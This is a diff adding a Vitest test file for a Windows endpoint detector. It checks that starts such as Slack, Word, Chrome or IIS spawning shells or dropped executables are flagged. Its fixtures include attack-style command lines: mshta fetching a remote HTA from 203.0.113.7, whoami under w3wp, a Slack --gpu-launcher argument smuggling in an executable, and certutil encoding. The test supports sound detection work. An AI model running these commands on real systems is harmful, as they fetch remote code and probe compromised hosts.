@@ -1,0 +1,159 @@
+import { describe, expect, it } from "vitest";
+import { anEvent, testCatalog } from "../../../test/support/events.ts";
+import type { History } from "../../baseline/history.ts";
+import { keyOf, kindKey } from "../../baseline/keys.ts";
+import type { Event } from "../../model/event.ts";
+import { file, PUBLIC, past, S32, start } from "../chains/cases/story.ts";
+import { createDetector } from "../detector.ts";
+
+const PROGRAMS = "C:\\Program Files\\";
+const SLACK = `${PROGRAMS}Slack\\slack.exe`;
+const WORD = `${PROGRAMS}Microsoft Office\\root\\Office16\\WINWORD.EXE`;
+const CHROME = `${PROGRAMS}Google\\Chrome\\Application\\chrome.exe`;
+const W3WP = `${S32}inetsrv\\w3wp.exe`;
+const HOME = "C:\\Users\\amy\\AppData\\";
+const DROPPED = "C:\\Windows\\Temp\\plover.exe";
+
+function find(events: readonly Event[], minLevel: "informational" | "low" = "low", history?: History) {
+  const detector = createDetector({ catalog: testCatalog(), minLevel, ...(history && { history }) });
+  return [...events.flatMap((event) => detector.push(event)), ...detector.end()];
+}
+
+/** A start as 4688 has it without command lines. */
+const by = (parent: string, image: string, line?: string): Event =>
+  anEvent("processCreation", 0, {
+    process: { key: "id:C", pid: 9, image },
+    parent: { key: undefined, pid: 8, image: parent },
+    image,
+    commandLine: line,
+  });
+const shell = (parent: string, name: string, line?: string) => by(parent, `${S32}${name}`, line);
+
+/** By analytic: a start that tells of who caused it, and ordinary ones beside it. */
+const CASES: readonly (readonly [analytic: string, fires: readonly Event[], silent: readonly Event[]])[] = [
+  [
+    "desktop-program",
+    [by(SLACK, DROPPED), by(`${PROGRAMS}VS\\Code.exe`, `${PUBLIC}a.exe`), by(SLACK, `${HOME}Local\\Temp\\a.exe`)],
+    [
+      by(SLACK, `${HOME}Local\\slack\\Update.exe`),
+      by(SLACK, `${HOME}Local\\Temp\\slack-setup.exe`),
+      by(SLACK, `${PROGRAMS}Zoom\\bin\\Zoom.exe`),
+      by(`${PROGRAMS}VS\\Code.exe`, `${HOME}Local\\Temp\\debug.exe`),
+      by(`${S32}msiexec.exe`, DROPPED),
+    ],
+  ],
+  [
+    "desktop-tool",
+    [shell(SLACK, "mshta.exe"), shell(SLACK, "cmd.exe", 'cmd /d /s /c "whoami"')],
+    [shell(SLACK, "cmd.exe", 'cmd.exe /d /s /c "chcp"'), shell(SLACK, "regsvr32.exe", "regsvr32 /s addin.dll")],
+  ],
+  ["desktop-shell", [shell(SLACK, "powershell.exe")], [shell(`${PROGRAMS}VS\\Code.exe`, "powershell.exe")]],
+  [
+    "document-program",
+    [by(WORD, `${HOME}Roaming\\a.exe`), by(WORD, "C:\\ProgramData\\a.exe"), by(WORD, `${HOME}Local\\Temp\\a.scr`)],
+    [by(WORD, `${HOME}Roaming\\Zoom\\bin\\Zoom.exe`), by(WORD, "C:\\ProgramData\\Vendor\\a.exe")],
+  ],
+  [
+    "document-shell",
+    [shell(WORD, "cmd.exe"), shell(WORD, "cmd.exe", "cmd.exe /c ver")],
+    [shell(WORD, "splwow64.exe"), shell(WORD, "rundll32.exe"), by(WORD, CHROME)],
+  ],
+  [
+    "browser-program",
+    [by(CHROME, DROPPED), by(CHROME, `${PUBLIC}a.exe`)],
+    [by(CHROME, "C:\\Users\\amy\\Downloads\\a.exe"), by(CHROME, `${PUBLIC}Downloads\\a.exe`)],
+  ],
+  [
+    "browser-shell",
+    [shell(CHROME, "cmd.exe", "cmd.exe /k")],
+    [
+      shell(CHROME, "cmd.exe"),
+      shell(CHROME, "cmd.exe", 'cmd.exe /d /c "C:\\Program Files\\Plover\\host.bat" chrome-extension://abc/'),
+    ],
+  ],
+  [
+    "server-shell",
+    [shell(W3WP, "cmd.exe", "cmd.exe /c whoami"), shell(W3WP, "whoami.exe")],
+    [
+      by(W3WP, "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe"),
+      shell(`${PROGRAMS}Apache\\bin\\httpd.exe`, "cmd.exe", 'cmd.exe /C "bin\\rotatelogs.exe logs/a 86400"'),
+    ],
+  ],
+];
+
+describe.each(CASES)("a start that tells of who caused it: %s", (analytic, fires, silent) => {
+  const behaviour = `windows/chains/starts-${analytic}`;
+  it("is one finding, of the starter, that names what was started", () => {
+    for (const event of fires) {
+      const [finding, ...more] = find([event], "informational");
+      expect(more).toEqual([]);
+      expect(finding?.behaviour).toBe(behaviour);
+      expect(finding?.runs[0]?.value).toBe((event as { image?: string }).image);
+      expect(finding?.title).not.toMatch(/\{|undefined|^ /);
+    }
+  });
+  it("is silent about ordinary starts", () => {
+    const told = silent.flatMap((event) => find([event], "informational").map((one) => one.behaviour));
+    expect(told.filter((one) => one.startsWith("windows/chains/"))).toEqual([]);
+  });
+});
+
+it("has a case for every analytic of who started something", () => {
+  const starts = testCatalog().chains.filter(({ id, alone }) => alone && id.startsWith("starts/"));
+  expect(CASES.map(([name]) => `starts/${name}`).toSorted()).toEqual(starts.map(({ id }) => id).toSorted());
+});
+
+describe("who started a program", () => {
+  const known = past(
+    keyOf("child", "windows/electron", "powershell.exe"),
+    keyOf("binary", "windows/electron"),
+    kindKey("child"),
+  );
+  const never = past(keyOf("binary", "windows/electron"), kindKey("child"));
+
+  it("is known by its own start where the event names a number alone", () => {
+    const events = [
+      start(0, "P", SLACK, `"${SLACK}"`),
+      anEvent("processCreation", 1, {
+        process: { key: undefined, pid: 9, image: DROPPED },
+        parent: { key: undefined, pid: "P".charCodeAt(0), image: undefined },
+        image: DROPPED,
+      }),
+    ];
+    expect(find(events)).toMatchObject([{ behaviour: "windows/chains/starts-desktop-program", level: "high" }]);
+  });
+  it("weighs more where a history never saw it, and less where it did", () => {
+    const event = start(0, "C", "powershell.exe", "powershell.exe", "P", SLACK);
+    expect(find([event], "low", never)).toMatchObject([{ level: "medium" }]);
+    expect(find([event], "low", known)).toEqual([]);
+  });
+  it("is no second finding where the line of either is told of", () => {
+    const launcher = [
+      start(0, "P", SLACK, `"${SLACK}" --gpu-launcher="C:\\Windows\\Temp\\plover.exe"`),
+      start(1, "C", DROPPED, DROPPED, "P", SLACK),
+    ];
+    expect(find(launcher)).toHaveLength(1);
+    const own = start(0, "C", "mshta.exe", "mshta.exe http://203.0.113.7/a.hta", "P", WORD);
+    expect(find([own])).toMatchObject([{ behaviour: "windows/mshta/remote-application" }]);
+  });
+  it("is one reason more where the line is told of at low", () => {
+    const [finding] = find([start(0, "C", "certutil.exe", "certutil -encode a.txt b.txt", "P", SLACK)]);
+    expect(finding?.evidence.map(({ id }) => id)).toContain("odd-starter");
+  });
+  it("is told of once where a chain tells more", () => {
+    const changed = [
+      file(0, "U", "powershell.exe", `${PROGRAMS}Slack\\resources\\app.asar`),
+      start(1, "P", SLACK, `"${SLACK}"`, "X", "explorer.exe"),
+      start(2, "C", DROPPED, DROPPED, "P", SLACK),
+    ];
+    const [finding, ...more] = find(changed);
+    expect(more).toEqual([]);
+    expect(finding?.evidence.map(({ id }) => id)).toContain("chain:DET0025/changed-application");
+  });
+  it("comes through a snapshot", () => {
+    const [first, second] = [0, 1].map(() => createDetector({ catalog: testCatalog(), minLevel: "low" }));
+    first?.push(start(0, "C", DROPPED, DROPPED, "P", SLACK));
+    second?.restore(JSON.parse(JSON.stringify(first?.snapshot())));
+    expect(second?.end()).toEqual(first?.end());
+  });
+});
